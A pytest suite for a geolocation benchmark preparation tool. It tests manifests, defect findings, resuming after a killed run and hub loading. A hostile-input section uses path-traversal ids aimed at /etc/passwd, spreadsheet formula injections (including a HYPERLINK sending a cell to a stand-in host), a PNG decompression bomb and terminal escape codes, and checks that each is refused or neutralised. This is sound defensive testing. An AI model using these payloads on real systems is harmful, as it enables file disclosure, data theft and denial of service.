"""From what a user downloaded to a manifest: findings, resuming, hostile input, the hub."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from globe_eval.benchmarks.definition import read_definition
from globe_eval.benchmarks.images import ImageError, decode
from globe_eval.benchmarks.manifest import read_prepared
from globe_eval.benchmarks.prepare import Prepared, describe, prepare, refuse_unwritten
from globe_eval.benchmarks.scan import scan, scan_file
from globe_eval.benchmarks.table import read_table
from globe_eval.errors import InputError

YAML = """\
task: my_city
class: !function globe_eval.GeoTask
dataset_kwargs: {truth: my_city/gt.csv, images: my_city/images}
metadata: {version: 3, source: our archive, defects: [The third picture was taken twice.]}
"""
OUTPUTS = ["findings.csv", "manifest.parquet", "prepare.json", "scan.jsonl"]


def picture(seed: int, size: tuple[int, int] = (96, 64)) -> Image.Image:
    rng = np.random.default_rng(seed)
    coarse = Image.fromarray(rng.integers(0, 256, (8, 8, 3), dtype=np.uint8))
    return coarse.resize(size, Image.Resampling.BICUBIC)


def jpeg(seed: int, quality: int = 90, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    picture(seed).save(buffer, "JPEG", quality=quality, comment=comment)
    return buffer.getvalue()


class Benchmark:
    """What a user has: a YAML, a table, a folder of pictures; and a folder to prepare into."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.images, self.out = folder, folder / "images", folder / "out"
        self.images.mkdir(parents=True)
        (folder / "my_city.yaml").write_text(YAML)
        self.rows: list[str] = []

    def add(self, name: str, data: bytes | None = None, lat: float = 48.1, lon: float = 11.5, rest: str = "") -> None:
        if data is not None:
            (self.images / name).write_bytes(data)
        self.rows.append(f"{name},{lat},{lon},{rest or 'ann'}")

    def prepare(self, out: Path | None = None, **options: object) -> Prepared:
        (self.folder / "gt.csv").write_text("\n".join(["id,lat,lon,photographer", *self.rows]) + "\n")
        return prepare(
            self.folder / "my_city.yaml",
            images=self.images,
            truth=self.folder / "gt.csv",
            out=out or self.out,
            **options,
        )


@pytest.fixture
def benchmark_(tmp_path: Path) -> Benchmark:
    return Benchmark(tmp_path / "mine")


def counts(prepared: Prepared) -> dict[str, int]:
    return {one.check: one.count for one in prepared.findings}


def items(prepared: Prepared, check: str) -> list[tuple[str, str]]:
    return next(one.items for one in prepared.findings if one.check == check)


def written(folder: Path) -> dict[str, bytes]:
    return {name: (folder / name).read_bytes() for name in OUTPUTS}


def test_a_manifest_has_the_truth_and_what_its_pictures_are(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1), 48.137, 11.575, "ann")
    benchmark_.add("b.jpg", jpeg(2), -33.86, 151.2, "bob")
    prepared = benchmark_.prepare()
    first, second = read_table(prepared.manifest).rows
    assert (first["id"], first["image"], first["lat"], first["lon"], first["group"]) == (
        "a.jpg", "a.jpg", 48.137, 11.575, "ann",
    )  # fmt: skip
    assert (first["width"], first["height"], len(first["perceptual_hash"])) == (96, 64, 16)
    assert first["country"] is first["entities"] is first["localizable"] is None
    assert second["image_sha256"] == hashlib.sha256(jpeg(2)).hexdigest()
    document = json.loads((benchmark_.out / "prepare.json").read_text())
    assert (document["task"], document["version"], document["n"]) == ("my_city", "3", 2)
    assert document["ceilings"]["coordinates"]["ceiling"]["acc@1km"] == 1.0
    read = read_prepared(benchmark_.out)
    assert read is not None and read.sha256 == document["manifest_sha256"]


def test_each_check_finds_its_defect_and_nothing_else(benchmark_: Benchmark) -> None:
    sound = [("good.jpg", 1), ("town.jpg", 2), ("twin.jpg", 3)]
    for name, seed in sound:
        benchmark_.add(name, jpeg(seed), 48.0 + seed, 11.0)
    benchmark_.add("copy.jpg", jpeg(3), 47.0, 11.0)
    benchmark_.add("again.jpg", jpeg(2, quality=40), 46.5, 11.0)
    benchmark_.add("told.jpg", jpeg(4, comment=b"latitude: 48.858370 longitude: 2.294481"), 46.0, 11.0)
    benchmark_.add("gone.jpg", None, 45.0, 11.0)
    benchmark_.add("void.jpg", b"", 44.9, 11.0)
    benchmark_.add("torn.jpg", jpeg(5)[:-900], 44.8, 11.0)
    benchmark_.add("text.jpg", b"<html>404</html>", 44.7, 11.0)
    grey = io.BytesIO()
    Image.new("RGB", (50, 50), (90, 90, 90)).save(grey, "PNG")
    benchmark_.add("grey.png", grey.getvalue(), 0.005, -0.009, "bob")
    benchmark_.add("ship.jpg", jpeg(6), 30.0, -45.0, "bob")
    benchmark_.add("quay.jpg", jpeg(7), 30.0, -45.0, "bob")
    (benchmark_.images / "spare.JPG").write_bytes(jpeg(8))
    (benchmark_.images / "notes.txt").write_text("no picture")
    prepared = benchmark_.prepare(allow_missing=True)

    def ids(check: str) -> list[str]:
        return [what for what, _ in items(prepared, check)]

    assert ids("missing files") == ["gone.jpg"]
    assert ids("empty files (0 bytes)") == ["void.jpg"]
    assert ids("pictures that do not decode") == ["torn.jpg", "text.jpg"]
    assert ids("files without a row") == ["spare.JPG"]
    assert items(prepared, "duplicates by content") == [
        ("twin.jpg", "same as copy.jpg"),
        ("copy.jpg", "same as twin.jpg"),
    ]
    assert items(prepared, "near duplicates by look") == [
        ("town.jpg", "like again.jpg"),
        ("again.jpg", "like town.jpg"),
    ]
    assert ids("pictures of one colour") == ["grey.png"]
    assert ids("coordinates in the metadata") == ["told.jpg"]
    assert ids("at Null Island (0, 0)") == ["grey.png"]
    assert ids("at sea") == ["grey.png", "ship.jpg", "quay.jpg"]
    assert items(prepared, "distinct coordinates") == [("30.0, -45.0", "2 times")]
    assert items(prepared, "photographers") == [("ann", "10"), ("bob", "3")]
    assert counts(prepared)["photographs"] == 13
    assert counts(prepared)["distinct coordinates"] == 12
    listed = (benchmark_.out / "findings.csv").read_text().splitlines()
    assert "missing files,gone.jpg,gone.jpg: No such file or directory" in listed
    shown = describe(prepared, 80)
    assert "The third picture was taken twice." in shown and "gone.jpg (No such file or directory)" in shown
    assert max(map(len, shown.partition("\n\n")[0].splitlines())) <= 80


def test_without_all_pictures_there_is_no_manifest_unless_that_is_allowed(benchmark_: Benchmark) -> None:
    for seed in range(3):
        benchmark_.add(f"{seed}.jpg", jpeg(seed), 48 + seed)
    whole = benchmark_.prepare(benchmark_.folder / "whole")
    (benchmark_.images / "1.jpg").unlink()
    refused = benchmark_.prepare()
    assert refused.manifest is None and refused.lacking == ["1.jpg"]
    assert not (benchmark_.out / "manifest.parquet").exists() and not (benchmark_.out / "prepare.json").exists()
    with pytest.raises(InputError, match=r"my_city: 1 of 3 photographs have no picture .*1\.jpg.*--allow-missing"):
        refuse_unwritten(refused)
    allowed = benchmark_.prepare(allow_missing=True)
    refuse_unwritten(allowed)
    assert (allowed.document["n"], allowed.document["left_out"]) == (2, ["1.jpg"])
    assert allowed.document["manifest_sha256"] != whole.document["manifest_sha256"]
    assert any(whole.document["manifest_sha256"] in note for note in allowed.notes)


def test_a_count_that_is_not_the_benchmarks_is_said(benchmark_: Benchmark) -> None:
    (benchmark_.folder / "my_city.yaml").write_text(YAML.replace("version: 3", "version: 3, n: 20"))
    benchmark_.add("a.jpg", jpeg(1))
    prepared = benchmark_.prepare()
    assert any("my_city has 20 photographs, this manifest 1" in note for note in prepared.notes)


def test_a_known_table_is_recognised_and_another_is_not(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1))
    digest = benchmark_.prepare().document["truth_sha256"]
    known = f"known_truth: {{{digest}: the table of 2020}}"
    (benchmark_.folder / "my_city.yaml").write_text(YAML.replace("version: 3", f"version: 3, {known}"))
    assert benchmark_.prepare().document["truth_known_as"] == "the table of 2020"
    benchmark_.add("b.jpg", jpeg(2))
    other = benchmark_.prepare()
    assert other.document["truth_known_as"] is None
    assert any("not that of a known table: the table of 2020" in note for note in other.notes)


def test_nothing_is_written_into_the_users_folders(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1))
    benchmark_.prepare(benchmark_.folder / "first")

    def state() -> list[tuple[str, int, int]]:
        paths = [path for path in benchmark_.folder.rglob("*") if benchmark_.out not in (path, path.parent)]
        return sorted((str(path), path.stat().st_mtime_ns, path.stat().st_size) for path in paths if path.is_file())

    before = [one for one in state() if not one[0].endswith("gt.csv")]
    benchmark_.prepare()
    assert [one for one in state() if not one[0].endswith("gt.csv")] == before
    for inside in (benchmark_.images, benchmark_.images / "prepared"):
        with pytest.raises(InputError, match="lies in the folder of the pictures"):
            benchmark_.prepare(inside)
    assert [path.name for path in benchmark_.images.iterdir()] == ["a.jpg"]


def test_its_own_manifest_is_not_overwritten(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1))
    manifest = benchmark_.prepare().manifest
    with pytest.raises(InputError, match="is the truth and would be overwritten"):
        prepare(benchmark_.folder / "my_city.yaml", images=benchmark_.images, truth=manifest, out=benchmark_.out)


def test_the_data_folder_is_where_it_reads_and_writes_by_default(
    benchmark_: Benchmark, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GLOBE_EVAL_DATA", str(benchmark_.folder / "data"))
    benchmark_.add("a.jpg", jpeg(1))
    benchmark_.prepare()
    home = benchmark_.folder / "data" / "my_city"
    shutil.copytree(benchmark_.images, home / "images")
    with pytest.raises(InputError, match=r"my_city: 'my_city/gt\.csv' is neither in .*; it comes from our archive"):
        prepare(benchmark_.folder / "my_city.yaml")
    shutil.copy(benchmark_.folder / "gt.csv", home)
    prepared = prepare("my_city", include_path=[benchmark_.folder])
    assert prepared.manifest == home / "manifest.parquet"


def test_a_table_beside_the_pictures_is_found(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1))
    benchmark_.prepare()
    found = prepare(benchmark_.folder / "my_city.yaml", images=benchmark_.images, out=benchmark_.folder / "other")
    assert found.document["truth"] == "gt.csv"


def test_a_variant_prepares_what_it_is_a_variant_of(benchmark_: Benchmark) -> None:
    for name in ("a", "b"):
        benchmark_.add(f"{name}.jpg", jpeg(ord(name)), 48.1 if name == "a" else -48.1)
    north = "include: my_city.yaml\ntask: my_city_north\n" + YAML.splitlines()[2].replace(
        "}", ", prepared: my_city, where: lat > 0}"
    )
    (benchmark_.folder / "north.yaml").write_text(north)
    benchmark_.prepare()
    prepared = prepare(
        "my_city_north",
        images=benchmark_.images,
        truth=benchmark_.folder / "gt.csv",
        out=benchmark_.out,
        include_path=[benchmark_.folder],
    )
    assert (prepared.task, prepared.document["n"]) == ("my_city", 2)


@pytest.mark.parametrize(
    "task, words",
    [
        ("im2gps3", ["unknown task 'im2gps3'", "did you mean 'im2gps"]),
        ("globe", ["globe is a group", "im2gps3k"]),
        ("im2gps3k", ["im2gps3k: no pictures", "--images", "they come from"]),
        ("nowhere.yaml", ["nowhere.yaml", "no such file"]),
    ],
)
def test_what_cannot_be_prepared_is_said(
    task: str, words: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GLOBE_EVAL_DATA", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError) as error:
        prepare(task)
    assert "\n" not in str(error.value)
    for word in words:
        assert word in str(error.value)
    assert not list(tmp_path.iterdir())


# --- a killed preparation -------------------------------------------------------------------------------------------

KILLED = """
import os, signal, sys
from pathlib import Path
from globe_eval.benchmarks import scan
from globe_eval.benchmarks.prepare import prepare

if __name__ == "__main__":
    plain, seen = scan.asdict, []

    def counting(one):
        seen.append(one)
        if len(seen) > 150:
            os.kill(os.getpid(), signal.SIGKILL)
        return plain(one)

    scan.asdict = counting  # called for each line of the journal, in this process
    mine = Path(sys.argv[1])
    prepare(mine / "my_city.yaml", images=mine / "images", truth=mine / "gt.csv", out=mine / "out")
"""


def test_a_killed_preparation_resumes_and_ends_with_the_same_bytes(benchmark_: Benchmark) -> None:
    for seed in range(400):
        benchmark_.add(f"{seed:03d}.jpg", jpeg(seed), 40 + seed / 100)
    whole = benchmark_.prepare(benchmark_.folder / "uninterrupted")
    assert whole.read == 400
    script = benchmark_.folder / "killed.py"
    script.write_text(KILLED)
    command = [sys.executable, script, benchmark_.folder]
    # Its pipe closes when the last process that has it ends: a worker that outlived the kill would time this out.
    killed = subprocess.run(command, stdout=subprocess.PIPE, timeout=300)
    assert killed.returncode == -9
    journal = (benchmark_.out / "scan.jsonl").read_bytes()
    kept = journal.count(b"\n") - 1
    assert 100 < kept <= 150
    assert [path.name for path in benchmark_.out.iterdir()] == ["scan.jsonl"]
    (benchmark_.out / "scan.jsonl").write_bytes(journal[:-7])  # and the last line was cut off
    resumed = benchmark_.prepare()
    assert resumed.read == 400 - (kept - 1)
    assert written(benchmark_.out) == written(benchmark_.folder / "uninterrupted")
    assert benchmark_.prepare().read == 0


def test_a_picture_that_changed_is_read_again_and_another_folder_has_no_journal(benchmark_: Benchmark) -> None:
    for seed in range(3):
        benchmark_.add(f"{seed}.jpg", jpeg(seed))
    before = benchmark_.prepare().rows
    (benchmark_.images / "1.jpg").write_bytes(jpeg(9))
    changed = benchmark_.prepare()
    assert changed.read == 1
    assert changed.rows[1]["image_sha256"] != before[1]["image_sha256"]
    shutil.copytree(benchmark_.images, benchmark_.folder / "copy")  # with the same names, sizes and times
    benchmark_.images = benchmark_.folder / "copy"
    assert benchmark_.prepare().read == 3


# --- what hostile or careless people put into a benchmark -----------------------------------------------------------


@pytest.mark.parametrize("name", ["../../etc/passwd", "../secret.jpg", "/etc/passwd", "/nowhere/at/all.jpg"])
def test_an_id_that_leads_out_of_the_folder_is_refused(benchmark_: Benchmark, name: str) -> None:
    (benchmark_.folder / "secret.jpg").write_bytes(jpeg(1))
    benchmark_.add(name)
    with pytest.raises(InputError, match=r"gt\.csv, line 2, .* lies outside"):
        benchmark_.prepare()
    assert not benchmark_.out.exists()


@pytest.mark.parametrize("link", ["a.jpg", "sub"])
def test_a_link_out_of_the_folder_is_refused(benchmark_: Benchmark, link: str) -> None:
    (benchmark_.folder / "private").mkdir()
    (benchmark_.folder / "private" / "a.jpg").write_bytes(jpeg(1))
    target = benchmark_.folder / "private"
    (benchmark_.images / link).symlink_to(target / "a.jpg" if link == "a.jpg" else target)
    benchmark_.add("a.jpg" if link == "a.jpg" else "sub/a.jpg")
    with pytest.raises(InputError, match="lies outside"):
        benchmark_.prepare()


def test_a_link_within_the_folder_is_followed(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1))
    (benchmark_.images / "b.jpg").symlink_to("a.jpg")
    benchmark_.add("b.jpg")
    assert counts(benchmark_.prepare())["duplicates by content"] == 2


def test_odd_names_are_missing_files_not_crashes(benchmark_: Benchmark, tmp_path: Path) -> None:
    os.mkfifo(benchmark_.images / "pipe.jpg")
    (benchmark_.images / "folder.jpg").mkdir()
    table = benchmark_.folder / "gt.jsonl"
    names = ["pipe.jpg", "folder.jpg", "nul\0.jpg", "x" * 5000, "\x1b[2Jclear.jpg", "good.jpg"]
    table.write_text("\n".join(json.dumps({"id": name, "lat": 48, "lon": 11}) for name in names))
    (benchmark_.images / "good.jpg").write_bytes(jpeg(1))
    prepared = prepare(
        benchmark_.folder / "my_city.yaml",
        images=benchmark_.images,
        truth=table,
        out=benchmark_.out,
        allow_missing=True,
    )
    assert [what for what, _ in items(prepared, "missing files")] == names[:-1]
    assert "\x1b" not in describe(prepared, 80)


def test_what_is_no_unicode_is_refused_in_a_table_and_told_of_a_file(benchmark_: Benchmark) -> None:
    table = benchmark_.folder / "gt.jsonl"
    table.write_text('{"id": "a.jpg", "lat": 48, "lon": 11}\n{"id": "\\ud800.jpg", "lat": 48, "lon": 11}\n')
    (benchmark_.images / "a.jpg").write_bytes(jpeg(1))
    with pytest.raises(InputError, match=r"gt\.jsonl, line 2: holds half a surrogate pair"):
        prepare(benchmark_.folder / "my_city.yaml", images=benchmark_.images, truth=table, out=benchmark_.out)
    (benchmark_.images / os.fsdecode(b"caf\xe9.jpg")).write_bytes(jpeg(2))
    benchmark_.add("a.jpg")
    prepared = benchmark_.prepare()
    assert "caf\\udce9.jpg" in describe(prepared, 80)
    findings = json.loads((benchmark_.out / "prepare.json").read_text(encoding="utf-8"))["findings"]
    assert {"check": "files without a row", "count": 1, "examples": [os.fsdecode(b"caf\xe9.jpg")]} in findings


def test_a_formula_is_text_in_the_manifest_and_harmless_in_the_findings(benchmark_: Benchmark) -> None:
    formula = '=HYPERLINK(""http://a.test?""&A1)'
    benchmark_.rows.append(f'a.jpg,48.1,11.5,"{formula}"')
    benchmark_.rows.append('"=cmd|calc!A0",48.1,11.5,@SUM(1)')
    (benchmark_.images / "a.jpg").write_bytes(jpeg(1))
    prepared = benchmark_.prepare(allow_missing=True)
    assert read_table(prepared.manifest).rows[0]["group"] == formula.replace('""', '"')
    with prepared.findings_file.open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    assert "'=cmd|calc!A0" in cells


def test_a_picture_of_a_hundred_megapixels_or_of_too_many_bytes_is_not_decoded(benchmark_: Benchmark) -> None:
    bomb = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBBI", 13, b"IHDR", 60_000, 60_000, 8, 2, 0, 0, 0, 0)
    benchmark_.add("bomb.png", bomb)
    benchmark_.add("huge.jpg", jpeg(1))
    with (benchmark_.images / "huge.jpg").open("ab") as file:
        file.truncate(1 << 30)
    prepared = benchmark_.prepare()
    (_, bomb_error), (_, huge_error) = items(prepared, "pictures that do not decode")
    assert "bomb.png" in bomb_error and "1,073,741,824 bytes" in huge_error


# --- the hub --------------------------------------------------------------------------------------------------------

HUB = """\
task: hub_city
class: !function globe_eval.GeoTask
dataset_kwargs: {truth: hub_city/gt.csv, images: hub_city/images, columns: {id: key, lat: latitude, lon: longitude}}
metadata: {version: 1, hub: HUB}
"""


def test_without_the_hub_the_two_ways_on_are_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "hub_city.yaml").write_text(HUB.replace("HUB", "nobody/has-this-set"))
    with pytest.raises(InputError) as error:
        prepare(tmp_path / "hub_city.yaml", out=tmp_path / "out")
    message = str(error.value)
    assert "\n" not in message and "nobody/has-this-set (split test)" in message
    assert "--images and --truth" in message and "where the hub can be reached" in message


def test_a_set_of_the_hub_is_laid_out_and_prepared(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    datasets = pytest.importorskip("datasets")
    monkeypatch.chdir(tmp_path)
    rows = {
        "key": ["x", "y"],
        "latitude": [48.1, -33.9],
        "longitude": [11.5, 151.2],
        "picture": [{"bytes": jpeg(1), "path": "munich-48.1-11.5.jpg"}, {"bytes": jpeg(2), "path": None}],
    }
    features = datasets.Features(
        key=datasets.Value("string"),
        latitude=datasets.Value("float64"),
        longitude=datasets.Value("float64"),
        picture=datasets.Image(),
    )
    repository = tmp_path / "repository"
    repository.mkdir()
    datasets.Dataset.from_dict(rows, features=features).to_parquet(repository / "validation-00000-of-00001.parquet")
    monkeypatch.setattr(datasets.config, "HF_DATASETS_CACHE", tmp_path / "cache")
    (tmp_path / "hub_city.yaml").write_text(HUB.replace("HUB", f'"{repository}:validation"'))
    prepared = prepare(tmp_path / "hub_city.yaml", out=tmp_path / "out")
    assert [(row["id"], row["lat"], row["image"]) for row in prepared.rows] == [
        ("x", 48.1, "0000000.jpg"),
        ("y", -33.9, "0000001.jpg"),
    ]
    assert (tmp_path / "out" / "hub" / "images" / "0000000.jpg").read_bytes() == jpeg(1)
    assert prepare(tmp_path / "hub_city.yaml", out=tmp_path / "out").read == 0
    (tmp_path / "hub_city.yaml").write_text(HUB.replace("HUB", f'"{repository}:nowhere"'))
    with pytest.raises(InputError, match="split nowhere"):
        prepare(tmp_path / "hub_city.yaml", out=tmp_path / "out")


# --- IM2GPS3K -------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def im2gps3k_pictures(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small picture for each of the 2,997 ids, and the 3 files of the archive that have no label."""
    folder = tmp_path_factory.mktemp("im2gps3k")
    rng = np.random.default_rng(0)
    ids = [row["IMG_ID"] for row in read_table(shared_data / "im2gps3k" / "im2gps3k_places365.csv").rows]
    for name in [*ids, "extra1.jpg", "extra2.jpg", "extra3.jpg"]:
        Image.fromarray(rng.integers(0, 256, (16, 24, 3), dtype=np.uint8)).save(folder / name)
    return folder


def test_im2gps3k_is_what_is_known_of_it(shared_data: Path, im2gps3k_pictures: Path, tmp_path: Path) -> None:
    table = shared_data / "im2gps3k" / "im2gps3k_places365.csv"
    prepared = prepare("im2gps3k", images=im2gps3k_pictures, truth=table, out=tmp_path)
    assert len(read_table(prepared.manifest).rows) == prepared.document["n"] == 2997
    found = counts(prepared)
    assert (found["photographers"], found["distinct coordinates"]) == (198, 1941)
    assert items(prepared, "distinct coordinates")[0] == ("58.202872, -6.379451", "43 times")
    assert dict(items(prepared, "scenes")) == {"indoor": "545", "natural": "845", "urban": "1,607"}
    assert [what for what, _ in items(prepared, "files without a row")] == ["extra1.jpg", "extra2.jpg", "extra3.jpg"]
    clean = ("missing files", "duplicates by content", "near duplicates by look", "at sea", "at Null Island (0, 0)")
    assert [found[check] for check in clean] == [0] * 5
    sha256 = "0f243d1e23cbb4ab8f0a83fa045ebae642dac2458fb94a1540db6f5f5588031d"
    assert prepared.document["truth_sha256"] == sha256
    assert "corrected" in prepared.document["truth_known_as"]

    swapped = shared_data / "im2gps3k" / "im2gps3k_places365.2018-07-25_LONLAT-HEADER-SWAPPED.csv"
    with pytest.raises(InputError, match=r"'122\.390356'.*swapped.*--fix-swapped") as error:
        prepare("im2gps3k", images=im2gps3k_pictures, truth=swapped, out=tmp_path / "swapped")
    assert "\n" not in str(error.value) and not (tmp_path / "swapped").exists()
    shutil.copy(tmp_path / "scan.jsonl", tmp_path / "journal")
    (tmp_path / "swapped").mkdir()
    shutil.move(tmp_path / "journal", tmp_path / "swapped" / "scan.jsonl")
    repaired = prepare("im2gps3k", images=im2gps3k_pictures, truth=swapped, out=tmp_path / "swapped", fix_swapped=True)
    assert repaired.document["manifest_sha256"] == prepared.document["manifest_sha256"]
    assert "swapped" in repaired.document["repaired"] and repaired.read == 0
    assert "swapped" in repaired.document["truth_known_as"]


def test_what_is_not_swapped_is_not_repaired(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1), 48.1, 11.5)
    prepared = benchmark_.prepare(fix_swapped=True)
    assert (prepared.document["repaired"], prepared.rows[0]["lat"]) == (None, 48.1)


def test_the_definition_itself_is_taken_too(benchmark_: Benchmark) -> None:
    benchmark_.add("a.jpg", jpeg(1))
    benchmark_.prepare()
    definition = read_definition(benchmark_.folder / "my_city.yaml")
    assert prepare(definition, images=benchmark_.images, out=benchmark_.out).document["n"] == 1


def encoded(form: str, mode: str = "RGB", **options: object) -> bytes:
    rng = np.random.default_rng(0)
    coarse = Image.fromarray(rng.integers(0, 256, (9, 7, 3), dtype=np.uint8))
    buffer = io.BytesIO()
    coarse.resize((60, 44), Image.Resampling.BICUBIC).convert(mode).save(buffer, form, **options)
    return buffer.getvalue()


def oriented(value: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = value
    return encoded("JPEG", quality=95, exif=exif.tobytes())


KINDS = {
    "baseline": encoded("JPEG"),
    "progressive": encoded("JPEG", progressive=True),
    "grey": encoded("JPEG", "L"),
    "cmyk": encoded("JPEG", "CMYK"),
    "turned": oriented(6),
    "png": encoded("PNG"),
    "palette": encoded("PNG", "P"),
    "alpha": encoded("PNG", "RGBA"),
    "webp": encoded("WEBP"),
    "gif": encoded("GIF"),
    "tiff": encoded("TIFF", compression="tiff_lzw"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_sound_picture_is_described(tmp_path: Path, kind: str) -> None:
    (tmp_path / "a").write_bytes(KINDS[kind])
    found = scan_file(tmp_path, "a")
    assert (found.problem, found.error, found.size) == (None, None, len(KINDS[kind]))
    assert found.sha256 == hashlib.sha256(KINDS[kind]).hexdigest()
    assert (found.width, found.height) == decode(KINDS[kind], "a").size
    assert found.with_coordinates is False


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(sorted(KINDS)), st.floats(0, 1), st.integers(0, 2**32))
def test_what_decodes_for_a_model_decodes_here_and_nothing_else(
    tmp_path: Path, kind: str, cut: float, seed: int
) -> None:
    data = bytearray(KINDS[kind][: int(len(KINDS[kind]) * min(1.0, cut * 1.5))])
    generator = random.Random(seed)
    for _ in range(generator.choice([0, 0, 1, 5]) if data else 0):
        data[generator.randrange(len(data))] = generator.randrange(256)
    (tmp_path / "a").write_bytes(data)
    found = scan_file(tmp_path, "a")
    try:
        size = decode(bytes(data), "a").size if data else None
    except ImageError:
        size = None
    assert ((found.width, found.height) if found.problem is None else None) == size


@pytest.mark.parametrize("orientation", range(1, 9))
def test_a_picture_is_described_as_it_is_seen(tmp_path: Path, orientation: int) -> None:
    upright = io.BytesIO()
    data = oriented(orientation)
    decode(data, "a").save(upright, "PNG")
    (tmp_path / "turned").write_bytes(data)
    (tmp_path / "upright").write_bytes(upright.getvalue())
    turned, seen = scan_file(tmp_path, "turned"), scan_file(tmp_path, "upright")
    assert (turned.width, turned.height) == (seen.width, seen.height)
    assert (int(turned.perceptual_hash, 16) ^ int(seen.perceptual_hash, 16)).bit_count() <= 2


def test_scans_come_in_the_order_asked_for_from_processes_too(tmp_path: Path) -> None:
    images = tmp_path / "images"
    images.mkdir()
    names = [f"{k:03d}.jpg" for k in range(300)]
    for k, name in enumerate(names):
        (images / name).write_bytes(encoded("JPEG", quality=20 + k % 70))
    asked = [*reversed(names), names[0], "absent.jpg"]
    found, read = scan(images, asked, tmp_path / "scan.jsonl")
    assert [one.image for one in found] == asked
    assert (read, found[-1].problem) == (300, "missing")
    assert found[:-1] == [scan_file(images, name) for name in asked[:-1]]
    again, read = scan(images, asked, tmp_path / "scan.jsonl")
    assert (again, read) == (found, 0)
